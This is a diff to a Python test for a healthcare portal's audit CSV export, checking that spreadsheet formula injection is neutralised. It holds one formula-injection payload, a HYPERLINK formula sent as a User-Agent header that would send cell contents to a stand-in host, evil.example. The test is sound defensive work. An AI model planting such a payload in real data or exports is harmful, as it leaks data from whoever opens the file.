@@ -9,27 +9,38 @@ import io
 import asyncpg
 import httpx
 
+from core.config import Settings
 from core.identity import Role
 from core.inputs import csv_cell
+from core.staff import service as staff
 from core.vault import Vault
-from tests.support.factories import make_patient
+from portal.app import create_app
+from tests.support.factories import SYSTEM, make_patient
+from tests.support.server import served
+
+PASSWORD = "a long enough staff password"
 
 
-async def test_the_audit_export_neutralises_formulas(
-    client: httpx.AsyncClient,
-    staff_token,  # type: ignore[no-untyped-def]
-    pool: asyncpg.Pool,
-    vault: Vault,
-) -> None:
-    tech, admin = await staff_token(Role.LAB_TECHNICIAN), await staff_token(Role.ADMIN)
+async def test_the_audit_export_neutralises_formulas(settings: Settings, pool: asyncpg.Pool, vault: Vault) -> None:
     async with pool.acquire() as conn:
         p = await make_patient(conn, vault)
+        for username, role in (("tech.csv", Role.LAB_TECHNICIAN), ("admin.csv", Role.ADMIN)):
+            await staff.add(conn, username=username, display_name=username, role=role, password=PASSWORD, actor=SYSTEM)
     evil = '=HYPERLINK("https://evil.example/?"&A1,"open")'
-    await client.get(f"/api/staff/patients/{p.id}", headers={"Authorization": f"Bearer {tech}", "User-Agent": evil})
-    export = await client.get(f"/api/admin/audit.csv?patient_id={p.id}", headers={"Authorization": f"Bearer {admin}"})
+    async with served(create_app(settings)) as client:
+        tech, admin = [await _token(client, u) for u in ("tech.csv", "admin.csv")]
+        await client.get(f"/api/staff/patients/{p.id}", headers={"Authorization": f"Bearer {tech}", "User-Agent": evil})
+        export = await client.get(f"/api/admin/audit.csv?patient_id={p.id}",
+                                  headers={"Authorization": f"Bearer {admin}"})  # fmt: skip
     cells = [cell for row in csv.reader(io.StringIO(export.text)) for cell in row]
     assert f"'{evil}" in cells
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+
+
+async def _token(client: httpx.AsyncClient, username: str) -> str:
+    r = await client.post("/api/staff/session", json={"username": username, "password": PASSWORD})
+    assert r.status_code == 200, r.text
+    return str(r.json()["token"])
 
 
 def test_every_formula_prefix_is_neutralised_and_plain_values_are_not_touched() -> None:
